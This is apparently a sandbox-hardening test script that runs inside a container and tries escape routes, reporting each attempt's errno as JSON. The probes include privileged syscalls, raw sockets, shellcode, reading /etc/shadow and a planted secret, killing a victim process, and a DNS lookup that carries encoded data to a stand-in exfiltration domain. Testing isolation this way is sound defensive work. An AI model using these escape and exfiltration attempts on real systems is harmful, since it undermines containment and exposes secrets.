"""Runs inside a box: tries ways out and prints what came of each as one JSON object.

`python attempts.py TARGETS` with TARGETS a JSON object of what the host has proved alive. A result is the name of the
errno, or `open` when the attempt went through. Standard library only.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import functools
import json
import mmap
import os
import platform
import socket
import struct
import subprocess
import sys
from collections.abc import Callable

libc = ctypes.CDLL(None, use_errno=True)
SYS = {
    "x86_64": {"mount": 165, "pivot_root": 155, "unshare": 272, "setns": 308, "clone": 56, "bpf": 321, "keyctl": 250,
               "add_key": 248, "perf_event_open": 298, "userfaultfd": 323, "open_by_handle_at": 304, "init_module": 175},
    "aarch64": {"mount": 40, "pivot_root": 41, "unshare": 97, "setns": 268, "clone": 220, "bpf": 280, "keyctl": 219,
                "add_key": 217, "perf_event_open": 241, "userfaultfd": 282, "open_by_handle_at": 265, "init_module": 105},
}[platform.machine()]  # fmt: skip
SYS |= {"io_uring_setup": 425, "clone3": 435, "fsopen": 430, "open_tree": 428, "mount_setattr": 442, "pidfd_getfd": 438}


def call(name: str, *arguments: object) -> Callable[[], object]:
    converted = [ctypes.c_long(value) if isinstance(value, int) else value for value in arguments]

    def attempt() -> object:
        if libc.syscall(SYS[name], *converted) == -1:
            raise OSError(ctypes.get_errno(), name)
        return None

    return attempt


def outcome(attempt: Callable[[], object]) -> str:
    ctypes.set_errno(0)
    try:
        attempt()
    except TimeoutError:
        return "timeout"
    except OSError as error:
        return errno.errorcode.get(error.errno or 0, str(error))
    return "open"


def exchange(family: int, address: object, kind: int = socket.SOCK_STREAM, protocol: int = 0) -> bytes:
    with socket.socket(family, kind, protocol) as made:
        made.settimeout(2)
        made.connect(address)  # type: ignore[arg-type]
        with contextlib.suppress(BrokenPipeError, ConnectionResetError):  # it answers and closes; we were connected
            made.send(b"hit")
            return made.recv(16)
        return b""


def in_child(attempt: Callable[[], object]) -> str:
    pid = os.fork()
    if pid == 0:
        try:
            attempt()
        except OSError as error:
            os._exit(error.errno or 1)
        os._exit(0)
    status = os.waitpid(pid, 0)[1]
    if os.WIFSIGNALED(status):
        return f"signal {os.WTERMSIG(status)}"
    code = os.WEXITSTATUS(status)
    return errno.errorcode[code] if code else "open"


def legacy_call() -> None:
    """getpid by the 32-bit entry: mov eax, 20; int 0x80; ret."""
    page = mmap.mmap(-1, 4096, prot=7)
    page.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
    ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()


def system_calls() -> dict[str, str]:
    room = ctypes.create_string_buffer(256)
    sockets = {
        "vsock": (40, 1), "packet": (17, 3, 0x300), "raw": (2, 3, 1), "raw6": (10, 3, 58), "ping": (2, 2, 1),
        "sctp": (2, 1, 132), "alg": (38, 5), "bluetooth": (31, 3), "xdp": (44, 3), "key": (15, 3, 2),
        "netlink netfilter": (16, 3, 12), "netlink uevent": (16, 3, 15),
    }  # fmt: skip
    found = {f"socket {name}": outcome(lambda how=how: socket.socket(*how)) for name, how in sockets.items()}  # type: ignore[misc]
    found["allowed: tcp socket"] = outcome(socket.socket)
    found["allowed: netlink route"] = outcome(lambda: socket.socket(16, 3, 0))
    new_user = 0x10000000
    found |= {
        "mount": outcome(call("mount", b"none", b"/tmp", b"tmpfs", 0, b"")),
        "fsopen": outcome(call("fsopen", b"tmpfs", 0)),
        "open_tree": outcome(call("open_tree", -100, b"/", 1)),
        "mount_setattr": outcome(call("mount_setattr", -100, b"/", 0, room, 32)),
        "pivot_root": outcome(call("pivot_root", b"/tmp", b"/tmp")),
        "unshare user": outcome(call("unshare", new_user)),
        "unshare net": outcome(call("unshare", 0x40000000)),
        "clone user": outcome(call("clone", new_user | 17, 0, 0, 0, 0)),
        "clone3": outcome(call("clone3", room, 88)),
        "setns": outcome(call("setns", os.open("/proc/self/ns/net", 0), 0)),
        "io_uring": outcome(call("io_uring_setup", 4, room)),
        "bpf": outcome(call("bpf", 0, room, 72)),
        "keyctl": outcome(call("keyctl", 0, -3, 0)),
        "add_key": outcome(call("add_key", b"user", b"x", b"y", 1, -3)),
        "perf_event_open": outcome(call("perf_event_open", room, 0, -1, -1, 0)),
        "userfaultfd": outcome(call("userfaultfd", 1)),
        "open_by_handle_at": outcome(call("open_by_handle_at", -100, room, 0)),
        "init_module": outcome(call("init_module", room, 0, b"")),
        "pidfd_getfd": outcome(call("pidfd_getfd", 0, 0, 0)),
        "mknod": outcome(lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(254, 0))),
        "chroot": outcome(lambda: os.chroot("/tmp")),
    }
    if platform.machine() == "x86_64":
        found["32-bit call"] = in_child(legacy_call)
    return found


def network(targets: dict[str, list[object]]) -> dict[str, str]:
    addresses = [(str(pair[0]), int(pair[1])) for pair in targets["tcp"][:2]]  # type: ignore[index]
    found = {f"tcp {to[0]}": outcome(functools.partial(exchange, 2, to)) for to in addresses}
    at = addresses[-1]

    def send(flags: int = 0) -> int:
        with socket.socket(2, 2) as made:
            return made.sendto(b"hit", flags, at)

    def send_many() -> None:
        with socket.socket(2, 2) as made:
            address = ctypes.create_string_buffer(
                struct.pack("=H", 2) + struct.pack("!H", at[1]) + socket.inet_aton(at[0]) + bytes(8)
            )
            body = ctypes.create_string_buffer(b"hit")
            vector = ctypes.create_string_buffer(struct.pack("=QQ", ctypes.addressof(body), 3))
            header = struct.pack(
                "=QIxxxxQQQQIxxxx", ctypes.addressof(address), 16, ctypes.addressof(vector), 1, 0, 0, 0
            )
            message = ctypes.create_string_buffer(header + bytes(8))
            if libc.sendmmsg(made.fileno(), message, 1, 0) < 0:
                raise OSError(ctypes.get_errno(), "sendmmsg")

    def fast_open() -> int:
        with socket.socket() as made:
            return made.sendto(b"hit", 0x20000000, at)

    def message() -> int:
        with socket.socket(2, 2) as made:
            return made.sendmsg([b"hit"], [], 0, at)

    found |= {
        "tcp ::1": outcome(lambda: exchange(10, ("::1", at[1]))),
        "tcp v4-mapped": outcome(lambda: exchange(10, (f"::ffff:{at[0]}", at[1]))),
        "tcp mptcp": outcome(lambda: exchange(2, at, 1, 262)),
        "tcp fast open": outcome(fast_open),
        "udp connected": outcome(lambda: exchange(2, at, 2)),
        "udp sendto": outcome(send),
        "udp sendmsg": outcome(message),
        "udp sendmmsg": outcome(send_many),
        "dns name with data": outcome(lambda: exchange(2, ("c2VjcmV0.exfil.example.org", 53))),
        "dns over tcp": outcome(lambda: exchange(2, ("127.0.0.1", 53))),
        "abstract socket": outcome(lambda: exchange(1, "\0" + str(targets["abstract"]))),
        "unix socket": outcome(lambda: exchange(1, str(targets["unix"]))),
    }
    return found


def files(targets: dict[str, list[object]]) -> dict[str, str]:
    secret, victim = str(targets["secret"]), int(str(targets["victim"]))
    os.symlink(secret, "/work/planted")
    with open("/proc/self/status") as status:
        rights = {line.split()[0]: line.split()[1] for line in status if line.startswith(("CapEff", "CapBnd", "NoNew"))}
    done = subprocess.run(["su", "-c", "id"], stdin=subprocess.DEVNULL, capture_output=True, check=False)
    return {
        "secret by path": outcome(lambda: open(secret).close()),
        "secret by pid 1": outcome(lambda: open(f"/proc/1/root{secret}").close()),
        "secret by link": outcome(lambda: open("/work/planted").close()),
        "write above the checkout": outcome(lambda: open("/work/../smp-was-here", "w").close()),
        "write to /usr": outcome(lambda: open("/usr/bin/smp-was-here", "w").close()),
        "shadow": outcome(lambda: open("/etc/shadow").close()),
        "kill victim": outcome(lambda: os.kill(victim, 9)),
        "victim environ": outcome(lambda: open(f"/proc/{victim}/environ").close()),
        "kvm": outcome(lambda: open("/dev/kvm").close()),
        "kmsg": outcome(lambda: open("/dev/kmsg").close()),
        "core_pattern": outcome(lambda: open("/proc/sys/kernel/core_pattern", "w").close()),
        "cgroup": outcome(lambda: open("/sys/fs/cgroup/cgroup.procs").close()),
        "host shared memory": outcome(lambda: open(f"/dev/shm/{targets['shared']}").close()),
        "CapEff": rights["CapEff:"],
        "CapBnd": rights["CapBnd:"],
        "NoNewPrivs": rights["NoNewPrivs:"],
        "su": "refused" if done.returncode else "open",
    }


if __name__ == "__main__":
    given = json.loads(sys.argv[1])
    inherited = sorted(os.listdir("/proc/self/fd"))  # the last one is the listing's own
    print(
        json.dumps(
            {"descriptors": inherited, "calls": system_calls(), "network": network(given), "files": files(given)}
        )
    )
